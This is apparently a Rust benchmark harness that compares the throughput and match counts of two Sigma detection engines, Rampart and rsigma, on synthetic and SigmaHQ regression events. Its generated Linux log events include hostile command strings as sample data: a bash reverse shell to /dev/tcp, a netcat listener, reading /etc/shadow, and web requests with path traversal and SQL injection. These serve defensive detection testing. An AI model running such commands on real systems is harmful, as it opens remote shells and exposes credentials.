//! `cargo xtask bench detect`: Sigma evaluation throughput of the release
//! `rampart rules eval` against the `rsigma` CLI (`rsigma engine eval`,
//! from crates.io) in the same run, on the same SigmaHQ rules and the same
//! events, with the match counts per rule compared.
//!
//! The events are the SigmaHQ regression events (Windows, evtx JSON,
//! flattened so both engines see `Image`, `CommandLine`, `EventID` at top
//! level) repeated, plus generated Linux process, sshd and web events, at
//! least a million JSON lines in all. Both engines offer every event to
//! every rule (no logsource routing: rsigma's default), so their match sets
//! must agree. Each engine's time is its whole run minus the same run on an
//! empty event file (rule loading), and its peak RSS comes from
//! `/usr/bin/time -v`.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Instant;

use anyhow::{Context, Result, bail};
use serde_json::{Map, Value, json};

use super::node::build_release;

#[derive(Debug, clap::Args)]
pub struct DetectArgs {
    /// Events to evaluate (at least a million for the record).
    #[arg(long, default_value_t = 1_000_000)]
    events: usize,
    /// The SigmaHQ `rules/` directory.
    #[arg(long, default_value = "../shared/testdata/sigma/rules")]
    rules: PathBuf,
    /// The SigmaHQ regression cases (events beside `info.yml`).
    #[arg(long, default_value = "../shared/testdata/sigma/regression")]
    regression: PathBuf,
    /// The rsigma binary (`cargo install rsigma@0.23.0 --locked --root /work/tools`; 0.23.0 is the newest for
    /// rustc 1.95, and it does not build without its default features).
    #[arg(long, default_value = "/work/tools/bin/rsigma")]
    rsigma: PathBuf,
    /// Use this rampart binary instead of building `target/release/rampart`.
    #[arg(long)]
    binary: Option<PathBuf>,
}

/// Every JSON value of a file holding one or more of them.
fn json_values(text: &str) -> Vec<Value> {
    serde_json::Deserializer::from_str(text).into_iter::<Value>().filter_map(Result::ok).collect()
}

/// An evtx JSON record as a flat object: `EventData` and `System` fields
/// at top level (`Provider_Name` from the provider's attribute).
fn flatten_evtx(v: &Value) -> Value {
    let mut out = Map::new();
    let system = v.pointer("/Event/System");
    if let Some(name) = system.and_then(|s| s.pointer("/Provider/#attributes/Name")) {
        out.insert("Provider_Name".into(), name.clone());
    }
    for part in ["/Event/System", "/Event/EventData", "/Event/UserData"] {
        if let Some(Value::Object(m)) = v.pointer(part) {
            for (k, val) in m {
                if !val.is_object() {
                    out.insert(k.clone(), val.clone());
                }
            }
        }
    }
    Value::Object(out)
}

fn regression_events(dir: &Path) -> Result<Vec<Value>> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).with_context(|| format!("reading {}", d.display()))?.flatten() {
            let p = entry.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|e| e == "json") {
                out.extend(json_values(&std::fs::read_to_string(&p)?).iter().map(flatten_evtx));
            }
        }
    }
    Ok(out)
}

/// A small deterministic generator (SplitMix64), so runs are comparable.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next() % items.len() as u64) as usize]
    }
}

const IMAGES: &[&str] = &[
    "/usr/bin/ls",
    "/usr/bin/cat",
    "/usr/bin/grep",
    "/usr/bin/curl",
    "/usr/bin/wget",
    "/usr/bin/python3",
    "/usr/bin/bash",
    "/usr/bin/sh",
    "/usr/bin/systemctl",
    "/usr/sbin/useradd",
    "/usr/bin/base64",
    "/usr/bin/nc",
    "/usr/bin/crontab",
    "/usr/bin/chmod",
    "/usr/bin/find",
    "/usr/bin/tar",
    "/usr/bin/ssh",
    "/usr/bin/id",
];
const ARGS: &[&str] = &[
    "-la /var/log",
    "/etc/hostname",
    "-r error /var/log/syslog",
    "-s https://example.org/install.sh",
    "-O /tmp/x http://203.0.113.5/a",
    "-c 'import os; print(os.getcwd())'",
    "-c 'echo hello'",
    "restart nginx",
    "-m backup",
    "-d /tmp/payload.b64",
    "-lvnp 4444",
    "-l",
    "+x /tmp/run.sh",
    "/ -name '*.conf'",
    "czf /tmp/etc.tgz /etc",
    "deploy@10.0.0.7",
    "",
    "-i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "-c 'cat /etc/shadow'",
    "--version",
];
const USERS: &[&str] = &["root", "deploy", "www-data", "postgres", "alice", "bob"];

fn linux_event(r: &mut Rng, i: usize) -> Value {
    match r.next() % 10 {
        0..=6 => {
            let image = r.pick(IMAGES);
            let name = image.rsplit('/').next().unwrap_or(image);
            json!({
                "Image": image,
                "CommandLine": format!("{name} {}", r.pick(ARGS)),
                "ParentImage": r.pick(&["/usr/bin/bash", "/usr/sbin/sshd", "/usr/sbin/cron", "/usr/bin/python3"]),
                "User": r.pick(USERS),
                "CurrentDirectory": r.pick(&["/tmp", "/root", "/home/deploy", "/var/www"]),
                "ProcessId": 1000 + (i % 30_000),
                "LogonId": r.next() % 1000,
            })
        }
        7 | 8 => json!({
            "message": format!("{} password for {} from 198.51.100.{} port {} ssh2",
                r.pick(&["Failed", "Accepted"]), r.pick(USERS), r.next() % 255, 1024 + r.next() % 60_000),
            "User": r.pick(USERS),
            "src_ip": format!("198.51.100.{}", r.next() % 255),
        }),
        _ => json!({
            "cs-method": r.pick(&["GET", "POST"]),
            "cs-uri-query": r.pick(&["/index.html", "/login.php?user=admin", "/../../etc/passwd", "/wp-admin/", "/api/v1/items?id=1 union select"]),
            "sc-status": r.pick(&["200", "404", "500"]),
            "c-ip": format!("203.0.113.{}", r.next() % 255),
            "cs-user-agent": r.pick(&["curl/8.5.0", "Mozilla/5.0", "sqlmap/1.7", "python-requests/2.31"]),
        }),
    }
}

/// Runs `cmd` under `/usr/bin/time -v`: wall seconds, peak RSS in MB, stdout.
fn timed(cmd: Command) -> Result<(f64, f64, Vec<u8>)> {
    let mut wrapped = Command::new("/usr/bin/time");
    wrapped.arg("-v").arg(cmd.get_program()).args(cmd.get_args());
    for (k, v) in cmd.get_envs() {
        if let Some(v) = v {
            wrapped.env(k, v);
        }
    }
    let started = Instant::now();
    let out = wrapped.stdin(Stdio::null()).output().context("running under /usr/bin/time")?;
    let secs = started.elapsed().as_secs_f64();
    let stderr = String::from_utf8_lossy(&out.stderr);
    if !out.status.success() {
        bail!("{:?} failed: {}", cmd.get_program(), stderr.lines().rev().take(5).collect::<Vec<_>>().join(" | "));
    }
    let kb: f64 = stderr
        .lines()
        .find_map(|l| l.trim().strip_prefix("Maximum resident set size (kbytes):"))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0.0);
    Ok((secs, kb / 1024.0, out.stdout))
}

/// Matches per rule id from rsigma's NDJSON output.
fn rsigma_counts(stdout: &[u8]) -> BTreeMap<String, u64> {
    let mut counts = BTreeMap::new();
    for line in String::from_utf8_lossy(stdout).lines() {
        if let Ok(v) = serde_json::from_str::<Value>(line)
            && let Some(id) = v["rule_id"].as_str().or_else(|| v["rule_title"].as_str())
        {
            *counts.entry(id.to_owned()).or_default() += 1;
        }
    }
    counts
}

pub fn run(args: DetectArgs) -> Result<()> {
    if !args.rules.is_dir() {
        bail!("{} is not a directory of Sigma rules", args.rules.display());
    }
    let work = tempfile::tempdir()?;
    let regression = regression_events(&args.regression)?;
    let mut rng = Rng(0x5EED);
    let mut text = String::with_capacity(args.events * 256);
    let (mut windows, mut linux) = (0usize, 0usize);
    for i in 0..args.events {
        // One event in ten is a regression event, the rest Linux.
        let event = if i % 10 == 0 && !regression.is_empty() {
            windows += 1;
            regression[(i / 10) % regression.len()].clone()
        } else {
            linux += 1;
            linux_event(&mut rng, i)
        };
        text.push_str(&event.to_string());
        text.push('\n');
    }
    let events = work.path().join("events.ndjson");
    let empty = work.path().join("empty.ndjson");
    std::fs::write(&events, &text)?;
    std::fs::write(&empty, "")?;
    let mb = text.len() as f64 / 1e6;
    drop(text);
    eprintln!("{} events ({windows} Windows regression, {linux} Linux), {mb:.0} MB", args.events);

    let binary = match &args.binary {
        Some(b) => b.clone(),
        None => build_release()?,
    };
    let rampart = |file: &Path| {
        let mut c = Command::new(&binary);
        c.args(["--json", "rules", "eval"]).arg(&args.rules).arg(file);
        c
    };
    let (base, _, _) = timed(rampart(&empty))?;
    let (total, rss, out) = timed(rampart(&events))?;
    let report: Value = serde_json::from_slice(&out).context("rampart rules eval output")?;
    let ours: BTreeMap<String, u64> = serde_json::from_value(report["by_rule"].clone()).unwrap_or_default();
    let our_secs = (total - base).max(1e-9);
    let our_rate = args.events as f64 / our_secs;

    let mut table = String::new();
    writeln!(table, "| measure | Rampart | rsigma 0.23.0 | ratio |")?;
    writeln!(table, "|---|---|---|---|")?;
    if args.rsigma.is_file() {
        let rsigma = |file: &Path| {
            let mut c = Command::new(&args.rsigma);
            c.args(["engine", "eval", "--output-format", "ndjson", "-r"])
                .arg(&args.rules)
                .arg("-e")
                .arg(format!("@{}", file.display()));
            c
        };
        let (rbase, _, _) = timed(rsigma(&empty))?;
        let (rtotal, rrss, rout) = timed(rsigma(&events))?;
        let theirs = rsigma_counts(&rout);
        let r_secs = (rtotal - rbase).max(1e-9);
        let r_rate = args.events as f64 / r_secs;
        let same = ours.iter().filter(|(k, v)| theirs.get(*k) == Some(v)).count();
        let differ: Vec<String> = ours
            .keys()
            .chain(theirs.keys())
            .collect::<std::collections::BTreeSet<_>>()
            .into_iter()
            .filter(|k| ours.get(*k) != theirs.get(*k))
            .map(|k| format!("{k}: rampart {} / rsigma {}", ours.get(k).unwrap_or(&0), theirs.get(k).unwrap_or(&0)))
            .collect();
        writeln!(
            table,
            "| events/s over {} events | {our_rate:.0} | {r_rate:.0} | {:.2} |",
            args.events,
            our_rate / r_rate
        )?;
        writeln!(table, "| rule loading | {:.2} s | {:.2} s | {:.2} |", base, rbase, base / rbase)?;
        writeln!(table, "| peak RSS | {rss:.0} MB | {rrss:.0} MB | {:.2} |", rss / rrss)?;
        writeln!(
            table,
            "| matches | {} over {} rules | {} over {} rules | {same} rules agree, {} differ |",
            ours.values().sum::<u64>(),
            ours.len(),
            theirs.values().sum::<u64>(),
            theirs.len(),
            differ.len()
        )?;
        println!("{table}");
        for d in differ.iter().take(30) {
            println!("  differs: {d}");
        }
    } else {
        eprintln!(
            "SKIP rsigma: {} not found (cargo install rsigma@0.23.0 --locked --root /work/tools)",
            args.rsigma.display()
        );
        writeln!(table, "| events/s over {} events | {our_rate:.0} | - | - |", args.events)?;
        writeln!(table, "| rule loading | {base:.2} s | - | - |")?;
        writeln!(table, "| peak RSS | {rss:.0} MB | - | - |")?;
        println!("{table}");
    }
    println!(
        "targets: ≥ 150000 events/s ({:.2}), RSS ≤ 1024 MB ({:.2}); anchors: Hayabusa ~12800 events/s ({:.1}×), Wazuh 10–20 k events/s",
        our_rate / 150_000.0,
        rss / 1024.0,
        our_rate / 12_800.0
    );
    Ok(())
}
